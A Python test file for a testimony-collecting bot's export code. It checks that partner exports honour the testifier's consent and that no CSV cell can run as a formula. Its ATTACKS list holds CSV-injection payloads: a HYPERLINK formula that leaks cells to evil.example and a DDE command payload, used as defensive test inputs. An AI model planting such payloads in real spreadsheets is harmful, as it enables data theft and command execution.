"""Partner exports carry only what her consent allows; no CSV cell runs as a formula."""

from __future__ import annotations

import csv
import json
import zipfile
from pathlib import Path
from typing import Any

import jsonschema
import pytest
from sqlalchemy import func, select

from bot.case import DETAINEE_FIELDS as RECORD_DETAINEE_FIELDS
from bot.case import TESTIFIER_FIELDS
from bot.case import Consent as ConsentRecord
from bot.models import Attachment, CaseStatus
from bot.reviewing.bundle import verify_bundle
from bot.reviewing.export import CSV_FIELDS
from bot.reviewing.export_csv import CONSENT_COLUMNS, column_of
from bot.reviewing.export_policy import DETAINEE_FIELDS, PARTNER_TESTIFIER, neutralise_formula
from bot.services.intake import STEPS
from tests.export_fixtures import (
    CONSENTS,
    FORMATS,
    exported,
    reviewer_of,
    seal_draft,
    walk_with_consent,
)
from tests.harness import Harness
from tests.scenario import Consent
from tests.test_intake_dialogue import PERSONS, VOICE, walk_intake

SCHEMA = json.loads((Path(__file__).parent.parent / "schemas/case-v1.json").read_text())
# Her own name and her city, as walk_intake gives them.
HER_NAME, HER_CITY = "Гүлбаһрам".encode(), "Алматы".encode()
NAME, NAME_ALT, ID_NUMBER = (PERSONS[0][k].encode() for k in ("name", "alt", "id_number"))
# OWASP: a cell starting with one of these is a formula to Excel or LibreOffice.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
ATTACKS = [
    '=HYPERLINK("https://evil.example/?"&A2&C2,"Details")',
    "=cmd|' /C calc'!A0",
    "+1",
    "-1",
    "@SUM(1)",
    "\tX",
    "\rX",
]
# Columns the exporter fills itself (codes, numbers, hashes): never her words.
FILLED_BY_THE_EXPORTER = {
    *("case_code", "submitted", "case_language", "case_status", "grade", "person_number"),
    *("birth_year", "birth_year_precision", "detained_year", "detained_month", "detained_day"),
    *("attachments", *CONSENT_COLUMNS.values()),
    # Worked out by the exporter (bot/reviewing/export_facts.py), never her text.
    *("name_pinyin", "id_number_check", "birth_date_uwazi", "detained_date_uwazi"),
    *("attachments_provenance", "followups", "followups_confirmed"),
}
# Her own name and residence: in team exports only.
HERS = {"own_name", "residence"}


def lines_of(fmt: str, out: Path) -> list[dict[str, Any]]:
    if fmt == "jsonl":
        text = out.read_text(encoding="utf-8")
    else:
        with zipfile.ZipFile(out) as bundle:
            text = bundle.read("cases.jsonl").decode()
    return [json.loads(line) for line in text.splitlines()]


def rows_of(out: Path) -> list[dict[str, str]]:
    with out.open(encoding="utf-8-sig", newline="") as table:
        return list(csv.DictReader(table))


def as_sealed(person: dict[str, Any]) -> dict[str, Any]:
    """An exported person without what the export adds (Uwazi dates, the team's checks)."""
    kept = {k: v for k, v in person.items() if k not in ("name_pinyin", "id_check")}
    for name, value in kept.items():
        if isinstance(value, dict) and "uwazi" in value:
            kept[name] = {k: v for k, v in value.items() if k != "uwazi"}
    return kept


def test_every_intake_question_is_placed_in_the_partner_policy() -> None:
    about = {s.name for s in STEPS if s.part == "about" and s.kind != "info"}
    person = {s.name for s in STEPS if s.part == "person" and s.name != "another"}
    # A new question about her must be looked at here first; about the detainee, in the policy.
    assert about == {"own_name", "residence"}
    assert set() == PARTNER_TESTIFIER  # who each person is to her is on the person
    # …and what the team works out about the person (bot/reviewing/export_facts.py).
    assert person | {"name_pinyin", "id_check"} == DETAINEE_FIELDS


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("sharing", CONSENTS)
async def test_partners_get_what_her_consent_allows_and_the_team_gets_everything(
    harness: Harness, tmp_path: Path, sharing: str, fmt: str
) -> None:
    code = await walk_with_consent(harness, 7300, sharing)
    sealed = await harness.open_case(code)
    assert sealed["consent"]["un_name_disclosed"] is True
    team_out, partner_out = tmp_path / f"team.{fmt}", tmp_path / f"partner.{fmt}"
    report, team = await exported(harness, team_out, fmt, internal=True)
    assert report.exported == 1
    assert NAME in team and NAME_ALT in team and code.encode() in team
    if fmt == "csv":  # the CSV never had columns for her, or for ID numbers
        assert [row["title"] for row in rows_of(team_out)] == [PERSONS[0]["name"]]
    else:
        assert HER_NAME in team and HER_CITY in team and ID_NUMBER in team
        [line] = lines_of(fmt, team_out)
        jsonschema.validate(line, SCHEMA)
        for part in ("testifier", "narrative", "evidence", "consent"):
            assert line[part] == sealed[part]
        assert [as_sealed(person) for person in line["detainees"]] == sealed["detainees"]
        # What the team worked out is there beside her words, marked as its own.
        assert line["detainees"][0]["id_check"] == "checks"
        assert line["detainees"][0]["detained"]["uwazi"] == "2018-05-01:2018-05-31"
        assert len(line["attachments"]) == len(sealed["attachments"])

    report, partner = await exported(harness, partner_out, fmt, internal=False)
    assert HER_NAME not in partner and HER_CITY not in partner
    if sharing == "team":
        assert (report.exported, report.excluded_codes) == (0, [code])
        assert code.encode() not in partner and NAME not in partner
        return
    assert report.exported == 1 and code.encode() in partner
    named = sharing != "publish_anonymous"
    assert (NAME in partner, NAME_ALT in partner) == (named, named)
    assert (ID_NUMBER in partner) == named  # every format carries the same fields
    if fmt == "csv":
        [row] = rows_of(partner_out)
        assert row["title"] == (PERSONS[0]["name"] if named else f"{code}/1")
        assert row["relation__en"] == "Son of the testifier"
        assert row["held_at"] == PERSONS[0]["held_at"]
        return
    [line] = lines_of(fmt, partner_out)
    jsonschema.validate(line, SCHEMA)
    assert line.get("testifier", {}) == {} and line["detainees"][0]["relation"] == "son"
    assert line["consent"] == {"sharing": sharing}
    assert line["detainees"][0]["held_at"] == PERSONS[0]["held_at"]
    assert line["narrative"] == sealed["narrative"]
    if fmt == "bundle":
        assert verify_bundle(partner_out, harness.reviewer.signing_public_hex()) == 5


def voice_draft(sharing: str, her_name: str, his_name: str, story: str) -> dict[str, Any]:
    return {
        "about": {"relation": "sister", "own_name": {"voice": her_name}, "residence": None},
        "detainees": [{"name": {"voice": his_name}, "status": "camp"}],
        "narrative": [{"voice": story}],
        "evidence": [],
        "consent": {"consent_sharing": sharing, "consent_un": "yes", "consent_un_name": "yes"},
    }


@pytest.mark.parametrize("sharing", ["organisations", "publish_anonymous"])
async def test_a_withheld_answer_given_by_voice_leaves_its_recording_behind(
    harness: Harness, tmp_path: Path, sharing: str
) -> None:
    user_id = 7400
    her, his, story = VOICE + b"her name", VOICE + b"his name", VOICE + b"what happened"
    seal = harness.services.cases.seal_attachment
    uids = [await seal("voice", data) for data in (her, his, story)]
    await seal_draft(harness, user_id, voice_draft(sharing, *uids))
    _report, team = await exported(harness, tmp_path / "team.zip", "bundle", internal=True)
    assert her in team and his in team and story in team
    _report, partner = await exported(harness, tmp_path / "partner.zip", "bundle", internal=False)
    named = sharing == "organisations"
    assert (her in partner, his in partner, story in partner) == (False, named, True)
    assert (uids[0].encode() in partner, uids[1].encode() in partner) == (False, named)
    [line] = lines_of("bundle", tmp_path / "partner.zip")
    jsonschema.validate(line, SCHEMA)
    assert len(line["attachments"]) == (2 if named else 1)
    assert verify_bundle(tmp_path / "partner.zip") == len(line["attachments"]) + 2


def everywhere(text: str) -> dict[str, Any]:
    """A draft with this text in every answer that can hold text, buttons included."""
    date = {"year": None, "month": None, "day": None, "precision": "unknown", "text": text}
    person: dict[str, Any] = {step: text for step in DETAINEE_FIELDS}
    person.update(birth_year=date, detained=date)
    for choice in ("relation", "gender", "hometown", "status", "perpetrators"):
        person[choice] = {"text": text}
    return {
        "about": {"relation": {"text": text}, "own_name": text, "residence": text},
        "detainees": [person],
        "narrative": [{"text": text}, {"text": text}],
        "evidence": [],
        "consent": {"consent_sharing": "publish_named"},
    }


@pytest.mark.parametrize("internal", [False, True], ids=["partner", "team"])
async def test_no_csv_cell_can_start_a_formula(
    harness: Harness, tmp_path: Path, internal: bool
) -> None:
    assert set(CSV_FIELDS) > FILLED_BY_THE_EXPORTER
    attack_of = {}
    for user_id, attack in enumerate(ATTACKS, start=7500):
        attack_of[await seal_draft(harness, user_id, everywhere(attack))] = attack
    out = tmp_path / "cases.csv"
    report, _raw = await exported(harness, out, "csv", internal=internal)
    assert report.exported == len(ATTACKS)
    with out.open(encoding="utf-8-sig", newline="") as table:
        cells = [cell for row in csv.reader(table) for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    rows = rows_of(out)
    assert {row["case_code"] for row in rows} == set(attack_of)
    for row in rows:
        attack = attack_of[row["case_code"]]
        for column in CSV_FIELDS:
            if column in FILLED_BY_THE_EXPORTER:
                continue
            joined = f"{attack}|{attack}" if column == "narrative" else attack
            if column in HERS and not internal:
                assert row[column] == "", column
                continue
            assert row[column] == "'" + joined, column
    # JSON Lines are not opened by spreadsheets: her words go out exactly as she wrote them.
    lines_out = tmp_path / "cases.jsonl"
    await exported(harness, lines_out, "jsonl", internal=internal)
    for line in lines_of("jsonl", lines_out):
        attack = attack_of[line["code"]]
        assert line["detainees"][0]["reason"] == attack
        assert line["narrative"] == [{"text": attack}, {"text": attack}]


def test_the_rule_as_documented() -> None:
    assert neutralise_formula("+7 701 555 0101") == "'+7 701 555 0101"
    assert neutralise_formula("-") == "'-"
    assert neutralise_formula("- unknown") == "'- unknown"
    assert neutralise_formula("-1") == "'-1"
    # OWASP's rule looks at the first character only.
    assert neutralise_formula(" =1+1") == " =1+1"
    assert neutralise_formula("Ерлан Нұрғалиұлы") == "Ерлан Нұрғалиұлы"


async def test_a_voice_answer_she_replaced_is_not_kept_and_never_reaches_partners(
    harness: Harness, tmp_path: Path
) -> None:
    """She says her name by voice, goes /back and types it: the recording is deleted at
    Submit, and no partner export carries it (files leave by allow-list)."""
    said = b"OggS" + b"my name is Gulbahram, I live at Abay street 5 " * 50
    user = harness.user(user_id=4200, language_code="ru")
    typed = user.send_text

    async def send_text(text: str, **kwargs: Any) -> Any:
        if text == "Гүлбаһрам" and not getattr(user, "_said", False):
            user._said = True  # type: ignore[attr-defined]
            await user.send_voice(said)
            await user.send_command("back")
        return await typed(text, **kwargs)

    user.send_text = send_text  # type: ignore[method-assign]
    anonymous = Consent(sharing="publish_anonymous")
    code = await walk_intake(user, locale="ru", persons=PERSONS[:1], consent=anonymous)
    payload = await harness.open_case(code)
    assert payload["testifier"]["own_name"] == "Гүлбаһрам"
    for item in payload["attachments"]:
        assert await harness.open_attachment(item["uid"]) != said
    async with harness.services.sessionmaker() as session:
        kept = await session.scalar(select(func.count()).select_from(Attachment))
    assert kept == len(payload["attachments"]) == 3  # two photos and the PDF
    await reviewer_of(harness).decisions.set_status(code, CaseStatus.VERIFIED)
    for fmt in FORMATS:
        _report, data = await exported(harness, tmp_path / f"x.{fmt}", fmt, internal=False)
        assert said not in data and "Гүлбаһрам".encode() not in data


def test_every_field_of_the_record_has_a_csv_column() -> None:
    fields = [*TESTIFIER_FIELDS, *RECORD_DETAINEE_FIELDS]
    assert [f for f in fields if column_of(f) not in CSV_FIELDS] == []
    assert set(CONSENT_COLUMNS) == set(ConsentRecord.model_fields)
    assert set(CONSENT_COLUMNS.values()) <= set(CSV_FIELDS)


def test_every_field_of_the_record_is_in_the_json_schema() -> None:
    schema = json.loads((Path(__file__).parent.parent / "schemas/case-v1.json").read_text())
    properties = schema["properties"]
    assert set(TESTIFIER_FIELDS) <= set(properties["testifier"]["properties"])
    detainee = properties["detainees"]["items"]["properties"]
    assert [f for f in RECORD_DETAINEE_FIELDS if f not in detainee] == []
    assert set(ConsentRecord.model_fields) <= set(properties["consent"]["properties"])
    assert "kk_Arab" in properties["language"]["enum"]


@pytest.mark.parametrize("internal", [False, True], ids=["partner", "team"])
async def test_an_arabic_script_case_exports_and_validates(
    harness: Harness, tmp_path: Path, internal: bool
) -> None:
    user = harness.user(user_id=7800, language_code="kk")
    code = await walk_intake(user, locale="kk_Arab", persons=PERSONS)
    await reviewer_of(harness).decisions.set_status(code, CaseStatus.VERIFIED)
    _report, _raw = await exported(harness, tmp_path / "c.jsonl", "jsonl", internal=internal)
    schema = json.loads((Path(__file__).parent.parent / "schemas/case-v1.json").read_text())
    [line] = lines_of("jsonl", tmp_path / "c.jsonl")
    assert line["language"] == "kk_Arab" and line["code"] == code
    jsonschema.validate(line, schema)
